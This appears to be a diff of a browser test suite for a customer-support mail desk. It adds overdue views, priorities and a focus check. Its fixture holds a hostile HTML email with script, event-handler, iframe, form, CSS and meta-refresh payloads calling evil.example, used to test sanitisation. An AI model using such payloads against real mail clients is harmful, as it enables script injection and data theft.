@@ -7,6 +7,7 @@ import type { MessageId } from '../../src/core/ids.js';
 import { startChromium, type Chromium, type PageOptions } from '../support/chromium.js';
 import { mailFrom } from '../support/desk-under-test.js';
 import { HOSTILE_HTML } from '../support/hostile-html.js';
+import { aMailbox } from '../support/samples.js';
 import { available } from '../support/servers.js';
 import { DEMO_TOKEN, openWebDesk, type WebDesk } from './web-desk.js';
 import type { Letter } from '../../src/web/customer-mailbox.js';
@@ -30,7 +31,7 @@ let base = '';
 
 beforeAll(async () => {
   if (!available('chromium')) return;
-  desk = await openWebDesk({}, { list: async () => [EVE], letters: async () => [letter, { ...letter, id: 'two', direction: 'out', at: new Date('2026-11-20T11:00:00Z') }], answer: async () => {}, write: async () => {} });
+  desk = await openWebDesk({ mailboxes: [aMailbox({ answerWithin: { normal: 30, urgent: 1 } })] }, { list: async () => [EVE], letters: async () => [letter, { ...letter, id: 'two', direction: 'out', at: new Date('2026-11-20T11:00:00Z') }], answer: async () => {}, write: async () => {} });
   const { under } = desk;
   const html = '<h1 onclick="document.title=\'pwned\'">Hi</h1><script>fetch("https://evil.example/stolen")</script><img src="https://evil.example/pixel.gif" onerror="parent.document.title=\'pwned\'"><iframe src="https://evil.example/frame"></iframe><form action="https://evil.example/form"><input name="x"></form><style>body{background:url(https://evil.example/css)}</style><link rel="stylesheet" href="https://evil.example/css2"><meta http-equiv="refresh" content="0;url=https://evil.example/refresh"><a href="javascript:alert(1)">click</a><svg onload="alert(1)"></svg>';
   await under.receive(mailFrom('Eve Novak <eve@customer.example>', 'Broken cup', html, { 'Content-Type': 'text/html; charset=utf-8', 'Message-ID': '<first@customer.example>' }));
@@ -52,6 +53,9 @@ beforeAll(async () => {
   await under.keep(mailFrom('Odd <odd@customer.example>', 'Odd mail', 'Text'));
   const [raw] = await under.store.rawMails.waiting('shop' as never, 10);
   await under.store.transaction((tx) => tx.rawMails.settle(raw?.id as never, { state: 'quarantined', outcome: 'the header is broken' }));
+  // One is overdue, the other is due soon.
+  await under.say('anna', 'priority', 1, { priority: 'urgent' });
+  under.pass(120_000);
   base = await desk.listen();
   chromium = await startChromium();
 });
@@ -73,7 +77,7 @@ const LOOKS = [
   { width: 375, colorScheme: 'light', mobile: true },
   { width: 375, colorScheme: 'dark', mobile: true },
 ] as const;
-const PAGES = ['/', '/c/1', '/c/2', '/c/1?template=hello', '/find?q=cup', '/find?q=form%3Acup', '/searches?q=cup', '/bulk?q=from%3Aeve', '/view/closed', '/quarantine', '/templates', '/templates/hello', '/templates/hello?c=1', '/templates/hello/edit', '/templates/new', '/settings', '/help', '/channels', '/more', '/customer', '/customer/eve%40customer.example', '/no-such-page', '/login?lang=pl'];
+const PAGES = ['/', '/c/1', '/c/2', '/c/1?template=hello', '/find?q=cup', '/find?q=form%3Acup', '/searches?q=cup', '/bulk?q=from%3Aeve', '/view/closed', '/view/overdue', '/quarantine', '/templates', '/templates/hello', '/templates/hello?c=1', '/templates/hello/edit', '/templates/new', '/settings', '/help', '/channels', '/more', '/customer', '/customer/eve%40customer.example', '/no-such-page', '/login?lang=pl'];
 
 describe.runIf(available('chromium')).each(LOOKS)('at $width px, $colorScheme', (look) => {
   it('every page passes axe and scrolls only up and down', { timeout: 120_000 }, async () => {
@@ -206,6 +210,8 @@ describe.runIf(available('chromium'))('the page of an agent', () => {
     await page.getByText('PS: the saucer too.').first().waitFor();
     expect(await page.getAttribute('#send-answer', 'aria-disabled')).toBe('true');
     expect(await page.inputValue('#text')).toBe('Nearly done');
+    // Writing goes on where it was.
+    expect(await page.evaluate('document.activeElement.id')).toBe('text');
     await page.getByRole('link', { name: 'Read it' }).click();
     expect(await page.evaluate('document.activeElement.id')).toBe('new');
     await page.click('#send-anyway');
